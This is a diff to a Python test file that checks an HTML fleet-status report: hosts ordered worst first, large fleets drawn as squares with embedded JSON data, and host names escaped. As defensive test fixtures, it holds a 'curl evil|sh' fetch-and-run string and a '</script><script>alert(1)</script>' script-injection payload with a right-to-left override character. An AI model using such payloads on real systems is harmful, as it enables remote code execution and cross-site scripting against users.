@@ -1,6 +1,9 @@
 """The fleet's pages: every host is named, the worst first, and nothing in a name is taken for markup."""
 
+import json
 import re
+from collections import Counter
+from functools import cache
 from typing import Any
 
 import pytest
@@ -9,6 +12,7 @@ from hypothesis import strategies as st
 
 from tests.conftest import examples
 from tests.fleet.made import NOW, asked, cage, preflight, session
+from tests.fleet.test_gate import host
 from tests.report.documents import HOST, body, document, hostile, replaced
 from tests.report.pages import Page
 from tunectl.fleet.body import fleet_body
@@ -225,3 +229,54 @@ def test_nor_on_the_page() -> None:
     assert "curl" not in ours
     assert reasons.count("curl") == reasons.count("in the hosts' own words: 'before all else, on every host: curl") == 1
     assert "evil: 'type this: curl evil|sh'" in theirs
+
+
+@cache
+def large(hosts: int = 2000, *, racks: bool = True, evil: str = "") -> Page:
+    """The page of many hosts: one of ten is NO-GO, one of a hundred left no document, one is unlike its peers."""
+    made = [
+        asked(f"tx-{n:05}")
+        if n % 100 == 7
+        else host(f"tx-{n:05}{evil}", "no-go" if n % 10 == 3 else "go", 400_000 if n == 500 else 4_000 + n % 9)
+        for n in range(hosts)
+    ]
+    of = session(
+        *(one.name for one in made), racks=tuple((one.name, f"R{n // 40}") for n, one in enumerate(made) if racks)
+    )
+    return Page(render(Document("fleet", HOST, "", fleet_body(of, made, NOW)), "html"))
+
+
+def test_many_hosts_are_squares_and_the_table_is_data() -> None:
+    """Without its script the page has a square for each host, the worst in the table, and how many more there are."""
+    page = large()
+    squares = [
+        path for name, path, around in page.tags if name == "path" and "div" in around and path["class"] != "strange"
+    ]
+    drawn = Counter(path["class"] for path in squares for _ in range(path["d"].count("h8v8h-8z")))
+    assert drawn == {"bad": 200, "missing": 20, "good": 1780}
+    framed = [path["d"] for path in page.all("path") if path["class"] == "strange"]
+    assert [path.count("M") for path in framed] == [1]
+    rows = re.findall(r'<tr class="needs"><th scope="row" class="text">(tx-[0-9]+)</th>', page.raw)
+    assert len(rows) == 200
+    assert "The worst 200 hosts; 1,800 more are in the document" in page.words
+    assert len(page.raw.encode()) * 5 < 3_000_000  # of 10,000 hosts
+    assert "cell good" in large(300).raw  # few are cells with their names
+
+
+def test_the_data_of_a_large_page_is_what_its_table_has() -> None:
+    page = large()
+    data = json.loads(page.raw.partition('class="hosts">')[2].partition("</script>")[0])
+    texts = [[known[place] for place in places] for known, places in data["columns"]]
+    assert [len(column) for column in texts] == [2000] * 11
+    assert (texts[0][0], texts[1][0], texts[2][0]) == ("tx-00003", "NO-GO", "4 µs")
+    assert sorted(place for rack in data["racks"] for place in rack) == [*range(2000)]
+    ((at, column),) = data["odd"]
+    assert (texts[0][at], texts[column][at]) == ("tx-00500", "400 µs")
+
+
+def test_no_name_gets_out_of_the_data() -> None:
+    evil = "</script><script>alert(1)</script>\u202e"
+    page = large(400, racks=False, evil=evil)
+    assert len(page.all("script")) == 2
+    assert "alert(1)</script>" not in page.raw
+    assert "\u202e" not in page.raw
